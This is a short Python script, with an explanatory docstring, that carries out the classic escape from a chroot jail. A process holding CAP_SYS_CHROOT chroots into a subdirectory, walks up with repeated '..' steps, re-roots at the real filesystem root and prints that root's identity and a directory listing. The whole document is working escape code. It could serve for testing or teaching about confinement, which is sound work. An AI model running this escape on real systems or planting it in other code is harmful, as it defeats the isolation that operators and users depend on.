"""The classic escape from chroot(2), for a process with CAP_SYS_CHROOT.

chroot(2) changes the root directory, not the working directory. After a second chroot below the
first root, the working directory is outside of it, and from there ".." leads up to the real root.
"""

import os
import sys

os.chdir("/")
os.makedirs("/deeper", exist_ok=True)
os.chroot("/deeper")  # the working directory is now outside "/"
for _ in range(64):
    os.chdir("..")
os.chroot(".")
root = os.stat("/")
print(f"root {root.st_dev}:{root.st_ino}", *sorted(os.listdir("/"))[:8], file=sys.stdout)
